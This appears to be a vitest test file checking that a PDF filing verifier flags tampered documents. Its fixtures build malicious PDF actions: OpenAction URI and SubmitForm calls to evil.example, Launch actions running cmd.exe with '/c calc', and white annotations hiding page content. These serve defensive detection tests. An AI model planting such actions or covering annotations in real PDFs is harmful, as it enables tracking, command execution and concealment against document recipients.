/** Annotations and actions a viewer's summary leaves out (red-team findings a3, a10): read from the objects, any of them the rebuild lacks is tampered-document. */
import { PDFDocument, PDFName, PDFString, type PDFContext } from 'pdf-lib';
import { beforeAll, describe, expect, it } from 'vitest';
import type { VerifyEnv } from '../../src/filing/verify.js';
import tamperedDocument from '../../src/validate/codes/tampered-document.js';
import { formatMessage } from '../../src/validate/message.js';
import { buildFiling, checkCatalogue, filingFindings, tempDir, verifyEnv } from './helpers.js';

let env: VerifyEnv;
let good: Uint8Array;

/** The filing rewritten in full by pdf-lib after `edit`. */
async function rewrite(edit: (doc: PDFDocument, ctx: PDFContext) => void): Promise<Uint8Array> {
  const doc = await PDFDocument.load(good, { updateMetadata: false });
  edit(doc, doc.context);
  return doc.save({ useObjectStreams: false });
}

/** White boxes over page 3 as Square annotations with these flags. */
const whiteSquares =
  (flags: number) =>
  (doc: PDFDocument, ctx: PDFContext): void => {
    const annots = ctx.obj([]);
    for (const y of [242, 148]) {
      const ap = ctx.stream('1 1 1 rg 0 0 44 17 re f', { Type: 'XObject', Subtype: 'Form', BBox: [0, 0, 44, 17] });
      annots.push(
        ctx.register(
          ctx.obj({ Type: 'Annot', Subtype: 'Square', F: flags, Rect: [523, y, 567, y + 17], C: [1, 1, 1], IC: [1, 1, 1], AP: { N: ctx.register(ap) } }),
        ),
      );
    }
    doc.getPage(2).node.set(PDFName.of('Annots'), annots);
  };

const S = (s: string): PDFString => PDFString.of(s);

beforeAll(async () => {
  env = verifyEnv(tempDir());
  good = await buildFiling(checkCatalogue('catalogues/weihui.yaml'));
});

describe('annotations whatever their flags (a3)', () => {
  it('a pdf-lib re-save is still ok', async () => {
    expect((await filingFindings(await rewrite(() => undefined), env)).integrity).toBe('ok');
  });
  for (const [what, flags] of [
    ['Print + NoView', 36],
    ['Hidden', 2],
    ['Print only', 4],
  ] as const) {
    it(`white squares flagged ${what} are tampered-document (annotations)`, async () => {
      const r = await filingFindings(await rewrite(whiteSquares(flags)), env);
      expect(r.integrity).toBe('tampered');
      expect(r.found[0]).toMatchObject({ rule: 'tampered-document', messageId: 'annotations', data: { page: 3 } });
    });
  }
});

describe('every action, whatever its type (a10)', () => {
  const cases: [string, (doc: PDFDocument, ctx: PDFContext) => void][] = [
    ['an OpenAction URI', (d, c) => d.catalog.set(PDFName.of('OpenAction'), c.obj({ S: 'URI', URI: S('http://evil.example/track') }))],
    [
      'an OpenAction Launch',
      (d, c) => d.catalog.set(PDFName.of('OpenAction'), c.obj({ S: 'Launch', F: S('cmd.exe'), Win: { F: S('cmd.exe'), P: S('/c calc') } })),
    ],
    [
      'an OpenAction SubmitForm',
      (d, c) => d.catalog.set(PDFName.of('OpenAction'), c.obj({ S: 'SubmitForm', F: { FS: 'URL', F: S('http://evil.example/s') }, Flags: 4 })),
    ],
    ['a page /AA URI', (d, c) => d.getPage(2).node.set(PDFName.of('AA'), c.obj({ O: { S: 'URI', URI: S('http://evil.example/p3') } }))],
    ['a catalog /AA before-print Launch', (d, c) => d.catalog.set(PDFName.of('AA'), c.obj({ WP: { S: 'Launch', F: S('cmd.exe') } }))],
  ];
  for (const [what, edit] of cases) {
    it(`${what} is tampered-document (actions)`, async () => {
      const r = await filingFindings(await rewrite(edit), env);
      expect(r.integrity).toBe('tampered');
      expect(r.found[0]).toMatchObject({ rule: 'tampered-document', messageId: 'document', data: { part: 'actions' } });
      // The message names the part in words, not by its key.
      expect(r.found[0] && formatMessage(tamperedDocument, { ...r.found[0], pointer: '' }, 'zh')).toMatch(/^备案文件的文档级动作与重新生成的不一致/);
    });
  }
});

describe('the logical structure a screen reader reads out', () => {
  const cases: [string, (doc: PDFDocument, ctx: PDFContext) => void][] = [
    [
      'a structure tree whose alternate text says the catalogue is withheld',
      (d, c) => {
        d.catalog.set(PDFName.of('MarkInfo'), c.obj({ Marked: true }));
        d.catalog.set(PDFName.of('StructTreeRoot'), c.obj({ Type: 'StructTreeRoot', K: { S: 'Document', Alt: S('第三类事项本年度暂不公开') } }));
      },
    ],
    ['a document language other than the rebuild’s', (d) => d.catalog.set(PDFName.of('Lang'), S('en-US'))],
  ];
  for (const [what, edit] of cases) {
    it(`${what} is tampered-document (structure)`, async () => {
      const r = await filingFindings(await rewrite(edit), env);
      expect(r.integrity).toBe('tampered');
      expect(r.found[0]).toMatchObject({ rule: 'tampered-document', messageId: 'document', data: { part: 'structure' } });
      expect(r.found[0] && formatMessage(tamperedDocument, { ...r.found[0], pointer: '' }, 'zh')).toMatch(/^备案文件的结构树与替代文字/);
    });
  }
});
